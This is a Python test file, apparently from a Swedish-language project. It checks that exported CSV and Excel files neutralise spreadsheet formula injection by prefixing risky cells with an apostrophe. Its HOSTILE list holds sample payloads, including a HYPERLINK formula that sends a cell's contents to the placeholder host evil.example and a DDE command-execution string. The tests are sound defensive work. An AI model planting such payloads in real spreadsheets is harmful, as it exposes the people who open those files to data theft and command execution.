"""Spreadsheet cells that cannot act as formulas, and one place that writes every spreadsheet."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

from openpyxl import Workbook, load_workbook

from grannar.core.spreadsheets import csv_bytes, inert, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"Klicka")',
    "+46 cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[2] / "grannar"


def test_risky_text_gets_an_apostrophe_and_everything_else_stays():
    for value in HOSTILE:
        assert inert(value) == "'" + value
    for value in ["Anna", "1+1", "", "'=already", "a=b", "Ö-vik"]:
        assert inert(value) == value
    for value in [-3, 2.5, Decimal("-1.5"), None, dt.date(2025, 1, 2), True]:
        assert inert(value) is value


def test_workbook_cells_come_back_as_text_and_numbers_stay_numbers():
    book = Workbook()
    book.active.append(["Namn", "Timmar"])
    for value in HOSTILE:
        book.active.append([value, -2])
    second = book.create_sheet("Två")
    second["C3"] = "=1+1"
    read = load_workbook(io.BytesIO(workbook_bytes(book)))
    rows = list(read.worksheets[0].iter_rows(min_row=2))
    # XML turns a carriage return into a line feed; the apostrophe is what counts.
    expected = ["'" + value.replace("\r", "\n") for value in HOSTILE]
    assert [row[0].value for row in rows] == expected
    assert {row[0].data_type for row in rows} == {"s"}
    assert {(row[1].value, row[1].data_type) for row in rows} == {(-2, "n")}
    assert (read.worksheets[1]["C3"].value, read.worksheets[1]["C3"].data_type) == ("'=1+1", "s")


def test_csv_cells_are_prefixed_and_numbers_stay_bare():
    content = csv_bytes(["Namn", "Värde"], [[value, -2] for value in HOSTILE])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Namn", "Värde"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-2"}


def test_every_spreadsheet_is_written_through_core_spreadsheets():
    """Saving a workbook or writing CSV anywhere else would skip the neutralising."""
    csv_writer = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = []
    for path in ROOT.rglob("*.py"):
        if path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        makes_book = "Workbook(" in text and "workbook_bytes(" not in text
        if makes_book or csv_writer.search(text) or re.search(r"book\.save\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
